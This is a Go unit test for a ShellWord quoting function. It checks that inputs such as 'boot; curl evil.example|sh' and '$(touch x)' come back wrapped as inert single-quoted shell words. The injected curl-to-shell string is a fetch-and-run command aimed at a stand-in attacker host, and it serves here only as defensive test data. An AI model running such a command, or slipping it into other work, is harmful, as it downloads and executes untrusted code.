package human

import "testing"

func TestShellWord(t *testing.T) {
	for text, want := range map[string]string{
		"/srv/boot": "/srv/boot", "a.example:5000/b/c:1@sha256:00": "a.example:5000/b/c:1@sha256:00", "größe": "größe",
		"":                           "''",
		"boot; curl evil.example|sh": "'boot; curl evil.example|sh'",
		"$(touch x)":                 "'$(touch x)'",
		"it's":                       `'it'\''s'`,
		"a b":                        "'a b'", "~/x": "'~/x'", "*": "'*'", "`x`": "'`x`'", "-rf": "'-rf'", "a\nb": "'a\nb'",
	} {
		if got := ShellWord(text); got != want {
			t.Errorf("%q: %s, want %s", text, got, want)
		}
	}
}
